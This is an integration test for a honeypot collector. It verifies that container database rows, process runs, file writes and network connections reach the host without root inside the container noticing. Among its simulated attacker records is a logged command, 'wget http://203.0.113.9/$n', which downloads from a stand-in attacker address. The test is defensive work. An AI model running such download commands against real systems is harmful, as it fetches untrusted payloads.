/**
 * A high-interaction honeypot in a container, with a MariaDB and an SQLite database of its own; an attacker who writes
 * to both and is root there. The collector on the host delivers all of it, natively and through stunnel4, and root sees
 * nothing of that.
 */
import assert from 'node:assert';
import { mkdirSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:net';
import { join } from 'node:path';
import { type TestContext, test } from 'node:test';
import { setTimeout as sleep } from 'node:timers/promises';
import { AuditDaemon } from '../rig/audit-daemon.ts';
import { ContainerDatabases, needs_databases } from '../rig/container-databases.ts';
import { readEngine } from '../rig/engine-reader.ts';
import { LxcContainer, needs_lxc } from '../rig/lxc-container.ts';
import { openSite, settledRecords, waitFor } from '../rig/site.ts';
import { needs_stunnel, startStunnel } from '../rig/stunnel.ts';

/**
 * All that root inside can look at: processes and what /proc tells of the first, mounts, sockets, locks, access times
 * of what the collector reads, audit, the kernel's messages of audit. What looks is left out by its own name, and so
 * are connections that only wait for their time to pass (06), which the kernel counts down, and the signals that wait
 * for any of root's processes on the whole host at this moment (SigQ).
 */
const look = `seen=$(ps -o args); echo "$seen" | grep -v -e 'ps -o args' | sort
  cat /proc/1/mountinfo /proc/1/cgroup /proc/1/limits /proc/1/loginuid /proc/1/sessionid /proc/1/oom_score_adj
  grep -v -e ctxt -e Vm -e Rss -e SigQ /proc/1/status; ls -l /proc/1/ns | sed 's/.*->//'; ls /proc/1/fd
  ls /proc | grep -v '^[0-9]' | sort; cat /proc/locks | sed 's/^[0-9]*: //' | sort; cat /proc/modules /proc/swaps
  for table in tcp tcp6 udp udp6 unix packet raw netlink; do
    echo $table; grep -v -e ' 06 0000' /proc/net/$table | sed -e 's/^[0-9a-f]*//; s/  *[^ ]*$//' | sort; done
  for path in / /etc /root /srv /srv/log /srv/pot /srv/data /srv/quiet /srv/quiet/file /srv/log/* /srv/pot/*; do
    stat -c '%n %X' $path; done
  ls /dev | sort; cat /proc/sys/fs/inotify/max_user_watches; cat /proc/sys/kernel/random/boot_id
  /opt/auditctl -s 2>&1; dmesg | grep -i audit`;

async function attackAndCompare(t: TestContext, uplink: 'native' | 'stunnel'): Promise<void> {
  let container: LxcContainer | undefined;
  let databases: ContainerDatabases | undefined;
  let audit: AuditDaemon | undefined;
  let settings = 'artifacts: { quiet_seconds: 1 }\n';
  t.after(async () => {
    await audit?.end();
    container?.end();
  });
  const site = await openSite(t, {
    sensors: (root) => {
      container = new LxcContainer(root);
      databases = new ContainerDatabases(container);
      audit = new AuditDaemon(join(root, 'audit'));
      if (uplink === 'stunnel')
        settings += `uplink: { stunnel: ${JSON.stringify(join(root, 'uplink.sock'))} }\n`;
      const of = { name: 'pot', lxc_path: container.lxc_path };
      const { mysql, sqlite } = databases.paths;
      return [
        { name: 'net', type: 'host_network', container: of },
        { name: 'res', type: 'host_resources', container: { ...of, every_seconds: 1 } },
        { name: 'proc', type: 'host_processes', container: { ...of, audit_log: audit.log } },
        { name: 'files', type: 'host_files', container: { ...of, every_seconds: 1 } },
        { name: 'ssh', type: 'kippo', paths: { mysql } },
        { name: 'smb', type: 'dionaea', paths: { sqlite } },
      ];
    },
    // With the folder, which is known by now.
    get collector_settings() {
      return settings;
    },
  });
  const { server, collector } = site;
  const [pot, kept] = [container!, databases!];
  if (uplink === 'stunnel') {
    await collector.finish(['stunnel']);
    startStunnel(t, collector);
  }
  pot.start();
  await kept.start();
  mkdirSync(join(pot.rootfs, 'srv/quiet'));
  writeFileSync(join(pot.rootfs, 'srv/quiet/file'), 'quiet');
  const answering = createServer((socket) => {
    socket.on('error', () => socket.destroy());
    // Sockets are looked at every second, later on a busy machine.
    setTimeout(() => socket.end('bye'), 4000);
  });
  await new Promise<void>((resolve) => answering.listen(0, pot.host_ip, resolve));
  t.after(() => answering.close());
  const { port } = answering.address() as { port: number };

  // What a program does at its start is over.
  await sleep(1500);
  const before = pot.run(look);
  assert.match(before, /mariadbd/);
  await audit!.start();
  collector.run();
  // The sensor's own row of Kippo has come: the log was read.
  await waitFor(site, 'the first records', async () => (await settledRecords(site)).rows >= 5, 60_000);
  await sleep(2500);
  assert.equal(pot.run(look), before, 'root sees no difference');

  await pot.runAside(`for n in $(seq 1 20); do
      echo "INSERT INTO sessions (id, starttime, sensor, ip) VALUES (md5($n), now(), 1, '203.0.113.9');"
      for m in 1 2 3; do echo "INSERT INTO auth VALUES (NULL, md5($n), $((m / 3)), 'root', 'pass $n $m', now());"; done
      echo "INSERT INTO input VALUES (NULL, md5($n), now(), NULL, 1, 'wget http://203.0.113.9/$n');"
    done | ${kept.mysql} kippo
    for n in $(seq 1 30); do
      echo "INSERT INTO connections VALUES (NULL, 'accept', 'tcp', 'smbd', $(date +%s), NULL, NULL, '198.51.100.7', 445, '203.0.113.9', '', $((4000 + n)));"
      echo "INSERT INTO logins VALUES (NULL, $n, 'admin', 'pass $n');"
    done | ${kept.sqlite}
    for n in $(seq 1 10); do /bin/echo apiary-mark $n; echo "contents $n" > /srv/quiet/f$n; done
    for n in 1 2; do nc ${pot.host_ip} ${port} < /dev/null & done; sleep 5; true`);
  const counted = kept.count();
  const wanted = { kippo_sessions: '20', kippo_auth: '60', kippo_input: '20' };
  assert.deepEqual(counted, { ...wanted, dionaea_connections: '30', dionaea_logins: '30' });
  const downloads = new URLSearchParams({ last: '1h', q: 'action:download target:/srv/quiet/f*' });
  await waitFor(
    site,
    'the files',
    async () => (await server.get<{ events: number }>(`/events/count?${downloads}`)).events >= 10,
  );
  // A busy machine copies a database less often.
  await waitFor(site, 'the rows of the databases', async () => {
    for (const [table, rows] of Object.entries(counted)) {
      const query = `SELECT uniqExact(place) FROM ${table}`;
      const answer = await server.post<{ rows: string[][] }>('/sql', { query });
      if (Number(answer.rows[0]![0]) < Number(rows)) return false;
    }
    return true;
  });
  await sleep(3000);
  await waitFor(site, 'the records', async () => (await settledRecords(site)).settled);
  const during = pot.run(look);
  await collector.kill('SIGTERM');
  await waitFor(site, 'the last records', async () => (await settledRecords(site)).settled);
  assert.equal(pot.run(look), during, 'its end changes nothing either');
  await server.stop();
  await readEngine(server.directory, async (store) => {
    for (const [table, rows] of Object.entries(counted)) {
      const [row] = await store.query(`SELECT uniqExact(place) AS rows FROM ${table}`);
      assert.deepEqual([table, row], [table, { rows }]);
    }
    const done = await store.query(
      `SELECT uniqExactIf(command, sensor_type = 'host_processes' AND command LIKE '/bin/echo apiary-mark%') AS runs,
        countIf(sensor_type = 'host_files' AND action = 'download' AND target LIKE '/srv/quiet/f%') AS files,
        countIf(sensor_type = 'host_network' AND direction = 'outbound' AND destination_port = ${port}) AS connections
        FROM event`,
    );
    assert.deepEqual(done, [{ runs: '10', files: '10', connections: '2' }]);
  });
}

for (const uplink of ['native', 'stunnel'] as const)
  test(
    `databases and deeds of a container come whole, ${uplink}, and root sees nobody`,
    {
      skip: needs_lxc || needs_databases || (uplink === 'stunnel' && needs_stunnel),
      timeout: 180_000,
    },
    (t) => attackAndCompare(t, uplink),
  );
